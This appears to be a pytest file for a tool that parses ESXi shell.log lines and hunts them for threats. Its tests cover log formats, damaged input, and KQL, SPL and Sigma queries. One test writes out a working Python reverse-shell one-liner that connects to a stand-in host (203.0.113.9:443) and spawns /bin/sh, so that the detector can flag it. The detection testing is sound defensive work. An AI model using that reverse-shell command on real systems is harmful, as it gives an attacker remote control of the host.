"""shell.log of ESXi: every form of its lines, what is no line of it, and what comes of a typed command."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import antivenom
from antivenom.errors import UsageError
from antivenom.executions import same_executions
from antivenom.proving.scenarios import events, find
from antivenom.tables import EVERYTHING, Damage, Event, Need, Origin
from antivenom.telemetry import esxi_shell
from antivenom.telemetry.format import Input
from antivenom.vocabularies.activity_esxi import first_word

# Written for this test after the forms that the reader's docstring names; hosts, ids and commands are made up.
SAMPLE = b"""\
2023-02-03T10:20:29Z ESXShell: ESXi shell login enabled
2023-02-03T10:20:30.123Z shell[2099241]: Interactive shell session started
2023-02-03T10:20:31.123Z shell[2099241]: [root]: python3 -c 'import socket'
2023-02-03T10:20:32Z In(14) shell[2099241]: [root]: esxcli vm process list | awk -F: '{print $1}'
<14>2023-02-03T10:20:33Z esx01.example shell[123]: [corp\\admin]: ls
<14>1 2023-02-03T10:20:34.5Z esx01.example shell 123 - - [root]: reboot
2012-12-22T23:26:54Z shell[277438]: esxcfg-resgrp -l
<166>2023-02-03T10:20:35.479Z esx01.example Hostd: info hostd[111] [Originator@6876] message
"""

SECOND = 1_000_000_000
T0 = 1_675_419_629 * SECOND


def read(data: bytes, need: Need = EVERYTHING) -> tuple[list[Event], list[Damage]]:
    readings = list(esxi_shell.read(Input("x", lambda: io.BytesIO(data), len(data)), need))
    events = [item for item in readings if isinstance(item, Event)]
    return events, [item for item in readings if isinstance(item, Damage)]


def test_every_form_of_a_line() -> None:
    events, damage = read(SAMPLE)
    assert damage == []
    shown = [(e.kind, e.host, e.fields.get("user"), e.fields.get("command"), e.fields.get("pid")) for e in events]
    assert shown == [
        ("message", None, None, None, None),
        ("message", None, None, None, "2099241"),
        ("shell", None, "root", "python3 -c 'import socket'", "2099241"),
        ("shell", None, "root", "esxcli vm process list | awk -F: '{print $1}'", "2099241"),
        ("shell", "esx01.example", "corp\\admin", "ls", "123"),
        ("shell", "esx01.example", "root", "reboot", "123"),
        ("message", None, None, None, "277438"),
        ("message", "esx01.example", None, None, None),
    ]
    assert [e.time for e in events[:4]] == [T0, T0 + 1_123_000_000, T0 + 2_123_000_000, T0 + 3 * SECOND]
    assert events[3].fields["level"] == "In(14)"
    assert events[5].fields["message"] == "[root]: reboot"
    assert (events[3].raw or "").startswith("2023-02-03T10:20:32Z In(14) shell[2099241]: [root]: esxcli")
    assert events[2].origin == Origin("x", None, 3, SAMPLE.index(b"2023-02-03T10:20:31"))


def test_it_is_recognised_by_its_commands() -> None:
    assert esxi_shell.sniff(SAMPLE) == 90
    assert esxi_shell.sniff(b"\xef\xbb\xbf" + SAMPLE.split(b"\n")[2]) == 90
    assert esxi_shell.sniff(SAMPLE.split(b"\n")[0] + b"\n") == 0
    assert esxi_shell.sniff(b"some\nnotes\nof\nmine\n" * 9 + SAMPLE.split(b"\n")[2] + b"\n") == 50
    assert esxi_shell.sniff(b"2023-02-03T10:20:31Z web nginx[7]: [error]: broken\n") == 0


@pytest.mark.parametrize(
    "data, expected, found, line",
    [
        (b"hello\nworld\n" + SAMPLE, "a line of an ESXi log", "hello", 1),
        (SAMPLE + b"2023-13-03T10:20:31Z shell[1]: [root]: ls\n", "a line of an ESXi log", "2023-13-03", 9),
        (SAMPLE + b"2023-02-03T10:20:31Z shell[1", "a line of an ESXi log", "2023-02-03T10:20:31Z shell[1", 9),
        (SAMPLE + b"\xff\xfe\0\0\n", "a line of an ESXi log", "\\xff\\xfe", 9),
        (b"x" * (3 << 20) + b"\n" + SAMPLE, "a line of at most 1048576 bytes", "x" * 100 + "...", 1),
    ],
)
def test_damage_leaves_its_neighbours(data: bytes, expected: str, found: str, line: int) -> None:
    events, damage = read(data)
    assert len(events) == 8
    (one,) = damage
    assert (one.expected, one.origin.line) == (expected, line)
    assert one.found.startswith(found)


def test_bytes_behind_a_long_line_are_found_again() -> None:
    data = b"x" * (3 << 20) + b"\n" + SAMPLE
    events, _ = read(data)
    assert data[events[0].origin.offset or 0 :].startswith(b"2023-02-03T10:20:29Z ESXShell")


def test_only_wanted_kinds_are_given() -> None:
    assert {event.kind for event in read(SAMPLE, Need(frozenset({"shell"}), raw=False))[0]} == {"shell"}
    assert all(event.raw is None for event in read(SAMPLE, Need(raw=False))[0])


def test_what_is_read_can_be_written() -> None:
    stream = io.BytesIO()
    esxi_shell.write(read(SAMPLE)[0], stream)
    assert stream.getvalue() == SAMPLE


@pytest.mark.parametrize("command", ["a\nb", "", " "])
def test_what_no_line_can_hold_is_refused(command: str) -> None:
    event = read(SAMPLE)[0][2]
    odd = event._replace(fields={**event.fields, "message": f"[root]: {command}", "command": command})
    with pytest.raises(UsageError, match=r"a line of shell\.log cannot hold"):
        esxi_shell.write([odd], io.BytesIO())


@given(st.binary(max_size=300), st.integers(0, len(SAMPLE)))
def test_anything_is_read(noise: bytes, at: int) -> None:
    data = SAMPLE[:at] + noise + SAMPLE[at:]
    esxi_shell.sniff(data)
    events, damage = read(data)
    assert len(events) + len(damage) >= 1


@pytest.mark.parametrize(
    "line, word",
    [
        ("python3 -c 'x'", "python3"),
        ("  A=1 B='x y' /bin/python3 a.py", "/bin/python3"),
        ("cd /tmp && python3 a.py", "cd"),
        ("(sleep 1; ls)", "sleep"),
        ("'my tool' x", "my tool"),
        ("py\\thon -V", "python"),
        ("ls|wc", "ls"),
        ("A=1", "A=1"),
        ("| x", None),
        ("", None),
    ],
)
def test_the_name_of_a_line(line: str, word: str | None) -> None:
    assert first_word(line) == word


def test_a_hostile_line_takes_no_time() -> None:
    for text in ("A=" * 200_000, "'" * 200_001, "\\" * 200_001, "( " * 200_000):
        first_word(text)
    assert read(b"2023-02-03T10:20:31Z " * 40_000)[0] == []


def asked(folder: Path, query: str, language: str, data: bytes = SAMPLE) -> list[tuple[Any, ...]]:
    (folder / "shell.log").write_bytes(data)
    table = antivenom.query(query, language=language, logs=antivenom.open(folder / "shell.log"))
    return [tuple(row.values()) for row in table.to_pylist()]


def test_typed_commands_in_kql(tmp_path: Path) -> None:
    query = (
        "DeviceProcessEvents | project DeviceName, FileName, ProcessCommandLine, AccountName, ProcessId, "
        "InitiatingProcessId, ActionType | take 3"
    )
    rows = asked(tmp_path, query, "kql")
    launched = "ProcessCreated"
    assert rows == [
        ("", "python3", "python3 -c 'import socket'", "root", None, 2099241, launched),
        ("", "esxcli", "esxcli vm process list | awk -F: '{print $1}'", "root", None, 2099241, launched),
        ("esx01.example", "ls", "ls", "corp\\admin", None, 123, launched),
    ]


def test_lines_in_spl_as_their_syslog_is_indexed(tmp_path: Path) -> None:
    query = 'index=esxi sourcetype="vmw-syslog" Message="*reboot*" | table host user command Message _raw'
    raw = "<14>1 2023-02-03T10:20:34.5Z esx01.example shell 123 - - [root]: reboot"
    assert asked(tmp_path, query, "spl") == [("esx01.example", "root", "reboot", "[root]: reboot", raw)]
    assert asked(tmp_path, "sourcetype=vmw-syslog | stats count", "spl") == [(8.0,)]
    assert asked(tmp_path, "index=wineventlog OR index=linux | stats count", "spl") == [(0.0,)]


RULE = """\
title: t
id: 3f6ff2b8-3a19-4a3e-9b58-6b0f0a2b7a11
status: test
logsource: {LOGSOURCE}
detection: {sel: {CommandLine|contains: socket}, condition: sel}
"""


@pytest.mark.parametrize(
    "source, count",
    [("category: process_creation", 1), ("category: process_creation, product: linux", 0)],
)
def test_sigma_sees_them_where_no_system_is_named(source: str, count: int, tmp_path: Path) -> None:
    assert len(asked(tmp_path, RULE.replace("LOGSOURCE", source), "sigma")) == count


def test_the_python_of_a_typed_line_is_read(tmp_path: Path) -> None:
    line = (
        'cd /tmp && python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",443));'
        '[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/sh")\' &'
    )
    log = tmp_path / "shell.log"
    log.write_text(f"2023-02-03T10:20:31Z shell[7]: [root]: {line}\n")
    found = antivenom.hunt(antivenom.open(log))
    (finding,) = [one for one in found if one.program and one.program.verdict == "malicious"]
    assert finding.process.command_line == line
    assert finding.process.user == "root"


def test_one_line_typed_twice_is_two_executions() -> None:
    rows = [
        {"antivenom.event": n, "time": T0, "process.pid": None, "process.name": "ls", "process.cmd_line": "ls",
         "device.hostname": "h", "metadata.product": "esxi_shell"}
        for n in (1, 2)
    ]  # fmt: skip
    assert same_executions(rows) == {1: 1, 2: 2}


def test_a_child_of_python_and_a_shell_with_a_command_leave_nothing() -> None:
    made = events(find("python-esxi-reverse-shell"), "esxi_shell")
    assert [str(event.fields["command"]).split(" ")[0] for event in made] == ["vim-cmd", "python3"]
    assert {(event.host, event.fields["pid"]) for event in made} == {("esx01.corp.example", "2099241")}
